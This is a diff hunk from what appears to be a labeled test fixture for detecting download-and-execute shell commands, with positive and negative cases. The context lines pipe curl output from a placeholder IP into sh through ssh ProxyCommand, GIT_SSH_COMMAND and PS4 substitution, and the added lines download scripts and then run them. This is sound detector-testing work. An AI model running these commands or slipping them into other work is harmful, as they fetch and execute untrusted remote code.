@@ -130,3 +130,9 @@ ssh -o ProxyCommand='curl -s http://203.0.113.5/s | sh' host true
 GIT_SSH_COMMAND='curl -s http://203.0.113.5/s | sh' git fetch
 #@ pos PS4 with a download for bash -x
 PS4='$(curl -s http://203.0.113.5/s | sh)' bash -xc ':'
+#@ pos a script downloaded under its own name, then run
+curl -sO https://example.com/install.sh && bash install.sh
+#@ pos wget then python of the same script
+wget https://bootstrap.example.org/get-pip.py; python3 get-pip.py
+#@ neg a data file downloaded, then a local script run
+wget https://example.com/data.csv && python3 analyze.py
